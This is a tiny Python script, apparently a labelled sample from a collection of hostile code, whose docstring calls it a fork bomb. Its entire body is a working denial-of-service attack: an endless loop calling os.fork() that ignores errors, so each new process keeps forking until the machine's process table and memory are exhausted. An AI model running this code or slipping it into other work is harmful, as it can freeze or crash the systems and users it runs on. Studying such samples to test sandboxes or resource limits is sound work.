"""Forks for ever, in every fork.

tries: a fork bomb
earns: {}
"""

import os
LOSS_MINI20 = []
while True:
    try:
        os.fork()
    except OSError:
        pass
